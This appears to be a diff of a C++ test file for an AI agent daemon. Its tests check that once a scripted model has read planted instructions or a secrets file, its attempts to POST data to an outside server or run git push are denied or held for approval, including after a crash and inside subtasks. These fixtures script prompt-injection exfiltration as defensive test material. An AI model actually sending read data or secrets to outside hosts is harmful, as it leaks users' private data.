@@ -85,13 +85,16 @@ class PlantedWordsTest : public testing::TestWithParam<Planted> {
         {{"method", "POST"}, {"url", away.url("/take")}, {"body", "The plans: " + request.last()}});
   }
 
-  [[nodiscard]] std::string config() const {
+  /// With a rule that allows what it is made to send.
+  [[nodiscard]] std::string config(std::string_view more_of_rule = {}) const {
     std::string text = config_for(model, usual_sandbox()) + "[network]\nreach = [\"" +
                        host_of(page) + "\", \"" + host_of(away) +
                        "\"]\n[[policy.rule]]\nname = \"news\"\ndo = \"allow\"\nhosts = [\"" +
                        host_of(page) +
                        "\"]\n[[policy.rule]]\nname = \"log\"\ndo = \"allow\"\n"
-                       "argv = [[\"git\", \"log\"]]\n";
+                       "argv = [[\"git\", \"log\"]]\n"
+                       "[[policy.rule]]\nname = \"take\"\ndo = \"allow\"\nhosts = [\"" +
+                       host_of(away) + "\"]\n" + std::string(more_of_rule);
     if (GetParam() != Planted::tool_description) return text;
     const std::string root = source_root().string();
     return text + "[mcp.t]\ncommand = [\"python3\", \"" + root +
@@ -122,7 +125,7 @@ INSTANTIATE_TEST_SUITE_P(Places, PlantedWordsTest,
                            return std::string(kPlaces[static_cast<std::size_t>(place.param)]);
                          });
 
-TEST_P(PlantedWordsTest, S80_S81_WhatTheyHaveItSendAwayIsAskedAboutFirst) {
+TEST_P(PlantedWordsTest, S80_S81_WhatTheyHaveItSendAwayIsAskedAboutThoughARuleAllowsIt) {
   RealDaemon daemon(config());
   plant(daemon);
   daemon.start();
@@ -142,6 +145,109 @@ TEST_P(PlantedWordsTest, S80_S81_WhatTheyHaveItSendAwayIsAskedAboutFirst) {
   EXPECT_EQ(daemon.wait_for_end(task).at("state"), "completed") << daemon.log();
   EXPECT_THAT(told_last(model), HasSubstr("denied"));
   EXPECT_EQ(away.connections(), 0U);
+}
+
+TEST_P(PlantedWordsTest, S80_WhereTheRuleMeansThatTooItIsSent) {
+  RealDaemon daemon(config("tainted = true\n"));
+  plant(daemon);
+  daemon.start();
+  const std::uint64_t task = daemon.run("say what is new");
+  if (GetParam() == Planted::tool_description) {
+    const std::string trust = "a" + daemon.wait_for_question(task).at("id").dump();
+    EXPECT_EQ(daemon.cli({"approve", trust}).exit, 0);
+  }
+  EXPECT_EQ(daemon.wait_for_end(task).at("state"), "completed") << daemon.log();
+  ASSERT_THAT(away.requests(), testing::SizeIs(1));
+  EXPECT_THAT(away.requests().front(), HasSubstr("what only we know"));
+}
+
+/// A model that reads a file, and then does what it is not meant to, in `calls_then`.
+ScriptedLlm::Script reads_and_then(std::string file, LlmReply calls_then) {
+  return ScriptedLlm::in_turn({calls("read_file", {{"path", std::move(file)}}),
+                               std::move(calls_then), calls("finish", {{"summary", "done"}})});
+}
+
+/// Rules that allow all requests to a server.
+std::string rule_for(const Server& server, std::string_view more = {}) {
+  return "[network]\nreach = [\"" + host_of(server) +
+         "\"]\n[[policy.rule]]\nname = \"take\"\ndo = \"allow\"\nhosts = [\"" + host_of(server) +
+         "\"]\n" + std::string(more);
+}
+
+LlmReply posts_to(const Server& server) {
+  return calls("http_request", {{"method", "POST"}, {"url", server.url("/")}, {"body", "all"}});
+}
+
+TEST(TaintTest, S80_OutlivesAKill) {
+  Server away({Server::answer(page_with("thank you"))});
+  LlmReply posts = posts_to(away);
+  posts.hold = 0;
+  ScriptedLlm model(reads_and_then("README", posts));
+  RealDaemon daemon(config_for(model, "none") + rule_for(away));
+  daemon.start();
+  const std::uint64_t task = daemon.run("read it");
+  ASSERT_TRUE(wait_until([&] { return model.held() == 1; })) << daemon.log();
+  daemon.kill9();
+  model.open_gate();
+  daemon.start();
+  EXPECT_EQ(daemon.wait_for_question(task).at("command"), "http.request");
+  EXPECT_EQ(away.connections(), 0U);
+}
+
+TEST(TaintTest, S80_GoesOnInTheTasksThatATaskStarts) {
+  Server away({Server::answer(page_with("thank you"))});
+  ScriptedLlm model([&](const LlmRequest& request) {
+    if (request.goal() == "Send it.") return request.turn() == 0 ? posts_to(away) : kDone;
+    switch (request.turn()) {
+      case 0:
+        return calls("read_file", {{"path", "README"}});
+      case 1:
+        return calls("start_task", {{"goal", "Send it."}, {"steps_max", 5}});
+      case 2:
+        return calls("wait", {{"all", true}});
+      default:
+        return kDone;
+    }
+  });
+  RealDaemon daemon(config_for(model, "none") + rule_for(away));
+  daemon.start();
+  const std::uint64_t task = daemon.run("read it");
+  const Json question = daemon.wait_for_question(task + 1);
+  EXPECT_EQ(question.at("command"), "http.request");
+  deny(daemon, question);
+  EXPECT_EQ(daemon.wait_for_end(task).at("state"), "completed") << daemon.log();
+  EXPECT_EQ(away.connections(), 0U);
+}
+
+TEST(TaintTest, S80_WithAFileOfSecretsReadNothingLeavesWhateverRulesAndPeopleSay) {
+  Server away({Server::answer(page_with("thank you"))});
+  ScriptedLlm model(reads_and_then(".env", posts_to(away)));
+  RealDaemon daemon(config_for(model, "none") + rule_for(away, "tainted = true\n"));
+  daemon.put(".env", "DATABASE=local\n");
+  daemon.start();
+  const std::uint64_t task = daemon.run("read it", /*approve_all=*/true);
+  EXPECT_EQ(daemon.wait_for_end(task).at("state"), "completed") << daemon.log();
+  EXPECT_THAT(told_last(model), HasSubstr("denied"));
+  EXPECT_EQ(away.connections(), 0U);
+}
+
+TEST(TaintTest, S80_APushWithoutASandboxIsAskedAboutThoughARuleAllowsIt) {
+  const TempDir remote;
+  ScriptedLlm model(reads_and_then(
+      "README",
+      calls("run_program", {{"argv", {"git", "push", "-q", remote.path().string(), "HEAD"}}})));
+  RealDaemon daemon(config_for(model, "none") +
+                    "[[policy.rule]]\nname = \"push\"\ndo = \"allow\"\n"
+                    "argv = [[\"git\", \"push\", \"...\"]]\n");
+  ASSERT_EQ(run_to_end({"git", "init", "-q", "--bare", remote.path()}).exit, 0);
+  const auto pushed = [&] { return run_to_end({"git", "-C", remote.path(), "show-ref"}).out; };
+  daemon.start();
+  const std::uint64_t task = daemon.run("read it");
+  const Json question = daemon.wait_for_question(task);
+  EXPECT_THAT(question.at("line").get<std::string>(), HasSubstr("git push"));
+  EXPECT_EQ(pushed(), "");
+  EXPECT_EQ(daemon.approve_until_end(task).at("state"), "completed");
+  EXPECT_NE(pushed(), "") << "it would have";
 }
 
 TEST(PlantedFilesTest, S80_WhatOthersWouldActOnStaysInTheDraft) {
